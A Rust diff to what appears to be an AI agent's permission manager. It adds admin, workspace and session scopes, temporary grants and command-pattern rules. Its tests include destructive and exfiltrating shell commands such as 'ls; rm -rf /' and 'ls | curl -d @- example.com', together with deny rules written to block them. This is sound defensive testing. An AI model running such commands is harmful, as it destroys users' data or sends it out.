@@ -1,5 +1,8 @@
 use crate::config::paths::Paths;
+use chrono::{DateTime, Utc};
+use rmcp::model::CallToolRequestParams;
 use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
 use std::collections::HashMap;
 use std::fs;
 use std::path::{Path, PathBuf};
@@ -7,6 +10,7 @@ use std::sync::{Arc, LazyLock, RwLock};
 use utoipa::ToSchema;
 
 const PERMISSION_FILE: &str = "permission.yaml";
+const WORKSPACES_DIR: &str = "workspaces";
 
 static PERMISSION_MANAGER: LazyLock<Arc<PermissionManager>> =
     LazyLock::new(|| Arc::new(PermissionManager::new(Paths::config_dir())));
@@ -21,11 +25,24 @@ pub enum PermissionLevel {
 }
 
 /// Struct representing the configuration of permissions, categorized by level.
-#[derive(Debug, Deserialize, Serialize, Default, Clone)]
+#[derive(Debug, Deserialize, Serialize, Default, Clone, PartialEq)]
+#[serde(default)]
 pub struct PermissionConfig {
     pub always_allow: Vec<String>, // List of tools that are always allowed
     pub ask_before: Vec<String>,   // List of tools that require user consent
     pub never_allow: Vec<String>,  // List of tools that are never allowed
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub allowed_command_prefixes: Vec<String>, // Shell command prefixes that are always allowed
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub temporary_allow: Vec<TemporaryGrant>, // Tools allowed until their grant expires
+}
+
+/// A rule that counts as always_allow until `expires_at`, after which the tool is asked about
+/// again.
+#[derive(Debug, Deserialize, Serialize, Clone, PartialEq, Eq)]
+pub struct TemporaryGrant {
+    pub rule: String,
+    pub expires_at: DateTime<Utc>,
 }
 
 /// PermissionManager manages permission configurations for various tools.
@@ -33,11 +50,18 @@ pub struct PermissionConfig {
 pub struct PermissionManager {
     config_path: PathBuf,
     permission_map: RwLock<HashMap<String, PermissionConfig>>,
+    // Consulted for principals this manager has no rule for
+    fallback: Option<Arc<PermissionManager>>,
+    // Whether rules are written to config_path or only kept in memory
+    persist: bool,
+    // Rules set by an administrator, read-only and above every other scope
+    admin: Option<PermissionConfig>,
 }
 
 // Constants representing specific permission categories
 const USER_PERMISSION: &str = "user";
 const SMART_APPROVE_PERMISSION: &str = "smart_approve";
+const ADMIN_PERMISSION: &str = "admin";
 
 impl PermissionManager {
     pub fn new(config_dir: PathBuf) -> Self {
@@ -54,9 +78,60 @@ impl PermissionManager {
         PermissionManager {
             config_path: permission_path,
             permission_map: RwLock::new(permission_map),
+            fallback: None,
+            persist: true,
+            admin: admin_policy_path().and_then(|path| load_admin_policy(&path)),
+        }
+    }
+
+    /// Replaces the system-wide admin policy with the one in `path`.
+    pub fn with_admin_policy(mut self, path: &Path) -> Self {
+        self.admin = load_admin_policy(path);
+        self
+    }
+
+    /// A manager whose rules only apply inside `workspace`, stored under the config dir in a
+    /// directory keyed by the workspace path. Anything it has no rule for is looked up in
+    /// `fallback`, so global rules keep applying everywhere.
+    pub fn for_workspace(
+        config_dir: PathBuf,
+        workspace: &Path,
+        fallback: Arc<PermissionManager>,
+    ) -> Self {
+        let key = format!(
+            "{:x}",
+            Sha256::digest(workspace.to_string_lossy().as_bytes())
+        );
+        let workspace_dir = config_dir.join(WORKSPACES_DIR).join(key);
+        PermissionManager {
+            fallback: Some(fallback),
+            admin: None,
+            ..Self::new(workspace_dir)
+        }
+    }
+
+    /// A manager for a single session. Rules granted in it are only kept in memory, so they
+    /// last as long as the session and never reach `fallback`'s permission.yaml.
+    pub fn for_session(fallback: Arc<PermissionManager>) -> Self {
+        PermissionManager {
+            config_path: fallback.config_path.clone(),
+            permission_map: RwLock::default(),
+            fallback: Some(fallback),
+            persist: false,
+            admin: None,
         }
     }
 
+    /// Replaces the user rules of a manager that doesn't persist, such as one made with
+    /// [`PermissionManager::for_session`], with `rules`.
+    pub fn with_user_rules(self, rules: PermissionConfig) -> Self {
+        self.permission_map
+            .write()
+            .unwrap()
+            .insert(USER_PERMISSION.to_string(), rules);
+        self
+    }
+
     pub fn instance() -> Arc<PermissionManager> {
         Arc::clone(&PERMISSION_MANAGER)
     }
@@ -73,12 +148,30 @@ impl PermissionManager {
 
     /// Retrieves the user permission level for a specific tool.
     pub fn get_user_permission(&self, principal_name: &str) -> Option<PermissionLevel> {
-        self.get_permission(USER_PERMISSION, principal_name)
+        self.get_permission(USER_PERMISSION, principal_name, None)
+    }
+
+    /// Retrieves the user permission level for a tool call, so rules scoped to the call's
+    /// `command` argument, like `developer__shell:git *`, apply too.
+    pub fn get_user_permission_for_call(
+        &self,
+        tool_call: &CallToolRequestParams,
+    ) -> Option<PermissionLevel> {
+        self.get_permission(USER_PERMISSION, &tool_call.name, call_command(tool_call))
+    }
+
+    /// Retrieves the admin policy's level for a tool call, for callers that grant permission
+    /// outside of this manager and mustn't go past what an administrator set.
+    pub fn get_admin_permission_for_call(
+        &self,
+        tool_call: &CallToolRequestParams,
+    ) -> Option<PermissionLevel> {
+        self.admin_permission(&tool_call.name, call_command(tool_call))
     }
 
     /// Retrieves the smart approve permission level for a specific tool.
     pub fn get_smart_approve_permission(&self, principal_name: &str) -> Option<PermissionLevel> {
-        self.get_permission(SMART_APPROVE_PERMISSION, principal_name)
+        self.get_permission(SMART_APPROVE_PERMISSION, principal_name, None)
     }
 
     /// Retrieves the config file path.
@@ -86,30 +179,65 @@ impl PermissionManager {
         self.config_path.as_path()
     }
 
+    /// Whether rules granted through this manager are saved to its config file.
+    pub fn persists(&self) -> bool {
+        self.persist
+    }
+
+    /// Serializes the permission map and writes it back to the config file.
+    fn save(&self, map: &HashMap<String, PermissionConfig>) {
+        if !self.persist {
+            return;
+        }
+        let yaml_content =
+            serde_yaml::to_string(map).expect("Failed to serialize permission config");
+        fs::write(&self.config_path, yaml_content).expect("Failed to write to permission.yaml");
+    }
+
     /// Helper function to retrieve the permission level for a specific permission category and tool.
-    fn get_permission(&self, name: &str, principal_name: &str) -> Option<PermissionLevel> {
-        let map = self.permission_map.read().unwrap();
-        // Check if the permission category exists in the map
-        if let Some(permission_config) = map.get(name) {
-            // Check the permission levels for the given tool
-            if permission_config
-                .always_allow
-                .contains(&principal_name.to_string())
-            {
-                return Some(PermissionLevel::AlwaysAllow);
-            } else if permission_config
-                .ask_before
-                .contains(&principal_name.to_string())
-            {
-                return Some(PermissionLevel::AskBefore);
-            } else if permission_config
-                .never_allow
-                .contains(&principal_name.to_string())
-            {
-                return Some(PermissionLevel::NeverAllow);
-            }
+    /// The admin policy comes first and can't be overridden; after it, the narrowest scope with a
+    /// matching rule decides.
+    fn get_permission(
+        &self,
+        name: &str,
+        principal_name: &str,
+        command: Option<&str>,
+    ) -> Option<PermissionLevel> {
+        self.admin_permission(principal_name, command)
+            .or_else(|| self.scoped_permission(name, principal_name, command))
+    }
+
+    fn admin_permission(
+        &self,
+        principal_name: &str,
+        command: Option<&str>,
+    ) -> Option<PermissionLevel> {
+        match &self.fallback {
+            Some(fallback) => fallback.admin_permission(principal_name, command),
+            None => self
+                .admin
+                .as_ref()
+                .and_then(|admin| config_permission(admin, principal_name, command)),
         }
-        None // Return None if no matching permission level is found
+    }
+
+    fn scoped_permission(
+        &self,
+        name: &str,
+        principal_name: &str,
+        command: Option<&str>,
+    ) -> Option<PermissionLevel> {
+        let map = self.permission_map.read().unwrap();
+        let level = map.get(name).and_then(|permission_config| {
+            config_permission(permission_config, principal_name, command)
+        });
+        drop(map);
+        // Fall back to the wider scope if this one has no rule
+        level.or_else(|| {
+            self.fallback
+                .as_ref()
+                .and_then(|fallback| fallback.scoped_permission(name, principal_name, command))
+        })
     }
 
     /// Updates the user permission level for a specific tool.
@@ -150,10 +278,67 @@ impl PermissionManager {
                 .push(principal_name.to_string()),
         }
 
-        // Serialize the updated permission map and write it back to the config file
-        let yaml_content =
-            serde_yaml::to_string(&*map).expect("Failed to serialize permission config");
-        fs::write(&self.config_path, yaml_content).expect("Failed to write to permission.yaml");
+        self.save(&map);
+    }
+
+    /// Allows a tool, or any tool matching the rule, without asking until `expires_at`. Expired
+    /// grants are dropped whenever a new one is added.
+    pub fn grant_user_permission_until(&self, rule: &str, expires_at: DateTime<Utc>) {
+        let mut map = self.permission_map.write().unwrap();
+        let permission_config = map.entry(USER_PERMISSION.to_string()).or_default();
+        let now = Utc::now();
+        permission_config
+            .temporary_allow
+            .retain(|grant| grant.rule != rule && grant.expires_at > now);
+        permission_config.temporary_allow.push(TemporaryGrant {
+            rule: rule.to_string(),
+            expires_at,
+        });
+
+        self.save(&map);
+    }
+
+    /// Always allows shell commands starting with the given prefix, such as `cargo test`.
+    pub fn add_user_command_prefix(&self, prefix: &str) {
+        let mut map = self.permission_map.write().unwrap();
+        let permission_config = map.entry(USER_PERMISSION.to_string()).or_default();
+        if !permission_config
+            .allowed_command_prefixes
+            .iter()
+            .any(|p| p == prefix)
+        {
+            permission_config
+                .allowed_command_prefixes
+                .push(prefix.to_string());
+        }
+
+        self.save(&map);
+    }
+
+    /// Whether a shell command matches one of the user's allowed prefixes on word boundaries.
+    /// Commands that chain, pipe, redirect or substitute never match, since the prefix would
+    /// only vouch for the first part of them.
+    pub fn is_user_command_allowed(&self, command: &str) -> bool {
+        let command = command.trim();
+        if is_compound_command(command) {
+            return false;
+        }
+        let map = self.permission_map.read().unwrap();
+        let allowed = map.get(USER_PERMISSION).is_some_and(|permission_config| {
+            permission_config
+                .allowed_command_prefixes
+                .iter()
+                .any(|prefix| {
+                    command.strip_prefix(prefix.as_str()).is_some_and(|rest| {
+                        rest.is_empty() || rest.starts_with(char::is_whitespace)
+                    })
+                })
+        });
+        allowed
+            || self
+                .fallback
+                .as_ref()
+                .is_some_and(|fallback| fallback.is_user_command_allowed(command))
     }
 
     /// Removes all entries where the principal name starts with the given extension name.
@@ -169,11 +354,145 @@ impl PermissionManager {
             permission_config
                 .never_allow
                 .retain(|p| !p.starts_with(extension_name));
+            permission_config
+                .temporary_allow
+                .retain(|grant| !grant.rule.starts_with(extension_name));
         }
 
-        let yaml_content =
-            serde_yaml::to_string(&*map).expect("Failed to serialize permission config");
-        fs::write(&self.config_path, yaml_content).expect("Failed to write to permission.yaml");
+        self.save(&map);
+    }
+}
+
+/// When several of a config's rules match, never_allow wins over always_allow and unexpired
+/// temporary grants, which win over ask_before.
+fn config_permission(
+    permission_config: &PermissionConfig,
+    principal_name: &str,
+    command: Option<&str>,
+) -> Option<PermissionLevel> {
+    let matches = |rules: &[String]| {
+        rules
+            .iter()
+            .any(|rule| rule_matches(rule, principal_name, command))
+    };
+    let restricts = |rules: &[String]| {
+        rules
+            .iter()
+            .any(|rule| rule_matches_any_segment(rule, principal_name, command))
+    };
+    let now = Utc::now();
+    if restricts(&permission_config.never_allow) {
+        Some(PermissionLevel::NeverAllow)
+    } else if matches(&permission_config.always_allow)
+        || permission_config.temporary_allow.iter().any(|grant| {
+            grant.expires_at > now && rule_matches(&grant.rule, principal_name, command)
+        })
+    {
+        Some(PermissionLevel::AlwaysAllow)
+    } else if restricts(&permission_config.ask_before) {
+        Some(PermissionLevel::AskBefore)
+    } else {
+        None
+    }
+}
+
+/// The system-wide policy file. Unit tests get none, so they don't depend on the host; they
+/// set one with [`PermissionManager::with_admin_policy`].
+fn admin_policy_path() -> Option<PathBuf> {
+    if cfg!(test) {
+        return None;
+    }
+    let dir = if cfg!(windows) {
+        PathBuf::from(std::env::var("ProgramData").unwrap_or_else(|_| "C:\\ProgramData".into()))
+            .join("goose")
+    } else {
+        PathBuf::from("/etc/goose")
+    };
+    Some(dir.join(PERMISSION_FILE))
+}
+
+/// The `command` argument of a tool call, which rules like `developer__shell:git *` match on.
+fn call_command(tool_call: &CallToolRequestParams) -> Option<&str> {
+    tool_call
+        .arguments
+        .as_ref()
+        .and_then(|args| args.get("command"))
+        .and_then(|command| command.as_str())
+}
+
+/// Reads the `admin` rules from a file laid out like permission.yaml. A missing file means no
+/// policy; one that can't be parsed is ignored with a warning.
+fn load_admin_policy(path: &Path) -> Option<PermissionConfig> {
+    let contents = fs::read_to_string(path).ok()?;
+    match serde_yaml::from_str::<HashMap<String, PermissionConfig>>(&contents) {
+        Ok(mut map) => map.remove(ADMIN_PERMISSION),
+        Err(e) => {
+            tracing::warn!(path = %path.display(), error = %e, "ignoring invalid admin permission policy");
+            None
+        }
+    }
+}
+
+fn is_compound_command(command: &str) -> bool {
+    command.contains([';', '&', '|', '`', '$', '>', '<', '\n'])
+}
+
+/// Matches `text` against a pattern where `*` stands for any run of characters.
+fn glob_matches(pattern: &str, text: &str) -> bool {
+    let Some((first, rest)) = pattern.split_once('*') else {
+        return pattern == text;
+    };
+    let Some(mut remaining) = text.strip_prefix(first) else {
+        return false;
+    };
+    let mut parts: Vec<&str> = rest.split('*').collect();
+    let last = parts.pop().unwrap_or_default();
+    for part in parts {
+        match remaining.split_once(part) {
+            Some((_, after)) => remaining = after,
+            None => return false,
+        }
+    }
+    remaining.len() >= last.len() && remaining.ends_with(last)
+}
+
+/// A rule is a tool name pattern such as `lookup__*`, optionally followed by `:` and a pattern
+/// for the call's `command` argument, such as `developer__shell:git *`. Command patterns never
+/// match chained, piped or redirected commands, since they'd only vouch for the first part.
+pub(crate) fn rule_matches(rule: &str, tool_name: &str, command: Option<&str>) -> bool {
+    match rule.split_once(':') {
+        None => glob_matches(rule, tool_name),
+        Some((tool_pattern, command_pattern)) => {
+            glob_matches(tool_pattern, tool_name)
+                && command.map(str::trim).is_some_and(|command| {
+                    !is_compound_command(command) && glob_matches(command_pattern, command)
+                })
+        }
+    }
+}
+
+/// The whole command followed by each command chained, piped or substituted inside it.
+fn command_segments(command: &str) -> impl Iterator<Item = &str> {
+    std::iter::once(command).chain(
+        command
+            .split([';', '&', '|', '\n', '`', '(', ')'])
+            .map(str::trim)
+            .filter(|segment| !segment.is_empty()),
+    )
+}
+
+/// Like [`rule_matches`], but a command pattern also matches when any part of a compound
+/// command does, so `developer__shell:rm -rf*` catches `ls; rm -rf /`. Used for rules that
+/// deny or ask, where matching too much is the safe side.
+pub(crate) fn rule_matches_any_segment(rule: &str, tool_name: &str, command: Option<&str>) -> bool {
+    match rule.split_once(':') {
+        None => glob_matches(rule, tool_name),
+        Some((tool_pattern, command_pattern)) => {
+            glob_matches(tool_pattern, tool_name)
+                && command.map(str::trim).is_some_and(|command| {
+                    command_segments(command).any(|segment| glob_matches(command_pattern, segment))
+                })
+        }
     }
 }
 
@@ -293,4 +612,273 @@ mod tests {
             .always_allow
             .contains(&"nonprefix__tool2".to_string()));
     }
+
+    #[test]
+    fn test_user_command_prefix() {
+        let (manager, temp_dir) = create_test_permission_manager();
+        manager.add_user_command_prefix("cargo test");
+        manager.add_user_command_prefix("cargo test");
+
+        assert!(manager.is_user_command_allowed("cargo test"));
+        assert!(manager.is_user_command_allowed("cargo test -p goose"));
+        assert!(!manager.is_user_command_allowed("cargo testing"));
+        assert!(!manager.is_user_command_allowed("cargo build"));
+        assert!(!manager.is_user_command_allowed("cargo test && rm -rf target"));
+        assert!(!manager.is_user_command_allowed("cargo test > out.txt"));
+
+        let reloaded = PermissionManager::new(temp_dir.path().to_path_buf());
+        let map = reloaded.permission_map.read().unwrap();
+        let config = map.get(USER_PERMISSION).unwrap();
+        assert_eq!(
+            config.allowed_command_prefixes,
+            vec!["cargo test".to_string()]
+        );
+    }
+
+    #[test]
+    fn test_permission_patterns() {
+        let (manager, _temp_dir) = create_test_permission_manager();
+        manager.update_user_permission("lookup__*", PermissionLevel::AlwaysAllow);
+        manager.update_user_permission("lookup__delete_*", PermissionLevel::NeverAllow);
+        manager.update_user_permission("developer__shell:git *", PermissionLevel::AlwaysAllow);
+        manager.update_user_permission("developer__shell:git push*", PermissionLevel::AskBefore);
+
+        let call = |name: &str, command: Option<&str>| CallToolRequestParams {
+            meta: None,
+            task: None,
+            name: name.to_string().into(),
+            arguments: command.map(|command| {
+                serde_json::json!({ "command": command })
+                    .as_object()
+                    .unwrap()
+                    .clone()
+            }),
+        };
+        let level = |name, command| manager.get_user_permission_for_call(&call(name, command));
+
+        assert_eq!(
+            level("lookup__get_code", None),
+            Some(PermissionLevel::AlwaysAllow)
+        );
+        assert_eq!(
+            level("lookup__delete_code", None),
+            Some(PermissionLevel::NeverAllow)
+        );
+        assert_eq!(level("lookups__get_code", None), None);
+        assert_eq!(
+            level("developer__shell", Some("git status")),
+            Some(PermissionLevel::AlwaysAllow)
+        );
+        // always_allow outranks ask_before when both match
+        assert_eq!(
+            level("developer__shell", Some("git push origin main")),
+            Some(PermissionLevel::AlwaysAllow)
+        );
+        assert_eq!(
+            level("developer__shell", Some("git status; rm -rf /")),
+            None
+        );
+        assert_eq!(level("developer__shell", Some("ls")), None);
+        assert_eq!(level("developer__shell", None), None);
+        assert_eq!(manager.get_user_permission("developer__shell"), None);
+    }
+
+    #[test]
+    fn test_restrictive_rules_match_any_segment() {
+        let (manager, _temp_dir) = create_test_permission_manager();
+        manager.update_user_permission("developer__shell:ls*", PermissionLevel::AlwaysAllow);
+        manager.update_user_permission("developer__shell:rm -rf*", PermissionLevel::NeverAllow);
+        manager.update_user_permission("developer__shell:curl *", PermissionLevel::AskBefore);
+
+        let call = |command: &str| CallToolRequestParams {
+            meta: None,
+            task: None,
+            name: "developer__shell".into(),
+            arguments: serde_json::json!({ "command": command })
+                .as_object()
+                .cloned(),
+        };
+        let level = |command| manager.get_user_permission_for_call(&call(command));
+
+        assert_eq!(level("ls -la"), Some(PermissionLevel::AlwaysAllow));
+        assert_eq!(level("ls; rm -rf /"), Some(PermissionLevel::NeverAllow));
+        assert_eq!(level("ls && rm -rf ~"), Some(PermissionLevel::NeverAllow));
+        assert_eq!(level("echo $(rm -rf /)"), Some(PermissionLevel::NeverAllow));
+        assert_eq!(
+            level("ls | curl -d @- example.com"),
+            Some(PermissionLevel::AskBefore)
+        );
+        // The allow rule still only vouches for whole, simple commands
+        assert_eq!(level("ls; echo hi"), None);
+    }
+
+    #[test]
+    fn test_temporary_grants_expire() {
+        let (manager, temp_dir) = create_test_permission_manager();
+        manager.update_user_permission("tool1", PermissionLevel::AskBefore);
+        manager.grant_user_permission_until("tool1", Utc::now() + chrono::Duration::hours(1));
+        manager.grant_user_permission_until("tool2", Utc::now() - chrono::Duration::seconds(1));
+
+        assert_eq!(
+            manager.get_user_permission("tool1"),
+            Some(PermissionLevel::AlwaysAllow)
+        );
+        assert_eq!(manager.get_user_permission("tool2"), None);
+
+        let reloaded = PermissionManager::new(temp_dir.path().to_path_buf());
+        assert_eq!(
+            reloaded.get_user_permission("tool1"),
+            Some(PermissionLevel::AlwaysAllow)
+        );
+
+        manager.grant_user_permission_until("tool3", Utc::now() + chrono::Duration::hours(1));
+        let map = manager.permission_map.read().unwrap();
+        let rules: Vec<&str> = map[USER_PERMISSION]
+            .temporary_allow
+            .iter()
+            .map(|grant| grant.rule.as_str())
+            .collect();
+        assert_eq!(rules, vec!["tool1", "tool3"]);
+    }
+
+    #[test]
+    fn test_session_permissions_stay_in_memory() {
+        let (global, temp_dir) = create_test_permission_manager();
+        let global = Arc::new(global);
+        global.update_user_permission("tool1", PermissionLevel::NeverAllow);
+
+        let session = PermissionManager::for_session(global.clone());
+        session.update_user_permission("tool2", PermissionLevel::AlwaysAllow);
+        session.add_user_command_prefix("cargo test");
+
+        assert!(!session.persists());
+        assert_eq!(
+            session.get_user_permission("tool1"),
+            Some(PermissionLevel::NeverAllow)
+        );
+        assert_eq!(
+            session.get_user_permission("tool2"),
+            Some(PermissionLevel::AlwaysAllow)
+        );
+        assert!(session.is_user_command_allowed("cargo test"));
+        assert_eq!(global.get_user_permission("tool2"), None);
+        assert!(!global.is_user_command_allowed("cargo test"));
+
+        let reloaded = PermissionManager::new(temp_dir.path().to_path_buf());
+        assert_eq!(reloaded.get_user_permission("tool2"), None);
+    }
+
+    #[test]
+    fn test_session_user_rules_come_before_wider_scopes() {
+        let (global, _temp_dir) = create_test_permission_manager();
+        let global = Arc::new(global);
+        global.update_user_permission("tool1", PermissionLevel::AlwaysAllow);
+        global.update_user_permission("tool2", PermissionLevel::AskBefore);
+
+        let session = PermissionManager::for_session(global).with_user_rules(PermissionConfig {
+            never_allow: vec!["tool1".to_string()],
+            ..Default::default()
+        });
+
+        assert_eq!(
+            session.get_user_permission("tool1"),
+            Some(PermissionLevel::NeverAllow)
+        );
+        assert_eq!(
+            session.get_user_permission("tool2"),
+            Some(PermissionLevel::AskBefore)
+        );
+    }
+
+    #[test]
+    fn test_admin_policy_overrides_user_rules() {
+        let (global, temp_dir) = create_test_permission_manager();
+        let policy_path = temp_dir.path().join("admin.yaml");
+        fs::write(
+            &policy_path,
+            "admin:\n  always_allow: []\n  ask_before: [lookup__*]\n  never_allow: ['developer__shell:rm -rf*']\n",
+        )
+        .unwrap();
+        let global = Arc::new(global.with_admin_policy(&policy_path));
+        global.update_user_permission("developer__shell", PermissionLevel::AlwaysAllow);
+        global.update_user_permission("lookup__get_code", PermissionLevel::AlwaysAllow);
+        let workspace = PermissionManager::for_workspace(
+            temp_dir.path().to_path_buf(),
+            Path::new("/repo"),
+            global.clone(),
+        );
+        workspace.update_user_permission("lookup__get_code", PermissionLevel::AlwaysAllow);
+
+        let shell = |command: &str| CallToolRequestParams {
+            meta: None,
+            task: None,
+            name: "developer__shell".into(),
+            arguments: serde_json::json!({ "command": command })
+                .as_object()
+                .cloned(),
+        };
+        assert_eq!(
+            workspace.get_user_permission_for_call(&shell("rm -rf /")),
+            Some(PermissionLevel::NeverAllow)
+        );
+        assert_eq!(
+            workspace.get_user_permission_for_call(&shell("ls")),
+            Some(PermissionLevel::AlwaysAllow)
+        );
+        assert_eq!(
+            workspace.get_user_permission_for_call(&shell("ls; rm -rf /")),
+            Some(PermissionLevel::NeverAllow)
+        );
+        assert_eq!(
+            workspace.get_user_permission("lookup__get_code"),
+            Some(PermissionLevel::AskBefore)
+        );
+        assert_eq!(
+            workspace.get_admin_permission_for_call(&shell("rm -rf /")),
+            Some(PermissionLevel::NeverAllow)
+        );
+        assert_eq!(workspace.get_admin_permission_for_call(&shell("ls")), None);
+        // The policy file itself is never rewritten.
+        assert!(fs::read_to_string(&policy_path)
+            .unwrap()
+            .starts_with("admin:"));
+    }
+
+    #[test]
+    fn test_workspace_permissions_fall_back_to_global() {
+        let (global, temp_dir) = create_test_permission_manager();
+        let global = Arc::new(global);
+        global.update_user_permission("tool1", PermissionLevel::AlwaysAllow);
+        global.update_user_permission("tool2", PermissionLevel::AlwaysAllow);
+
+        let workspace = PermissionManager::for_workspace(
+            temp_dir.path().to_path_buf(),
+            Path::new("/repo/a"),
+            global.clone(),
+        );
+        workspace.update_user_permission("tool2", PermissionLevel::NeverAllow);
+        workspace.update_user_permission("tool3", PermissionLevel::AlwaysAllow);
+
+        assert_eq!(
+            workspace.get_user_permission("tool1"),
+            Some(PermissionLevel::AlwaysAllow)
+        );
+        assert_eq!(
+            workspace.get_user_permission("tool2"),
+            Some(PermissionLevel::NeverAllow)
+        );
+        assert_eq!(
+            workspace.get_user_permission("tool3"),
+            Some(PermissionLevel::AlwaysAllow)
+        );
+        assert_eq!(global.get_user_permission("tool3"), None);
+
+        let other = PermissionManager::for_workspace(
+            temp_dir.path().to_path_buf(),
+            Path::new("/repo/b"),
+            global,
+        );
+        assert_eq!(other.get_user_permission("tool3"), None);
+        assert_ne!(other.get_config_path(), workspace.get_config_path());
+    }
 }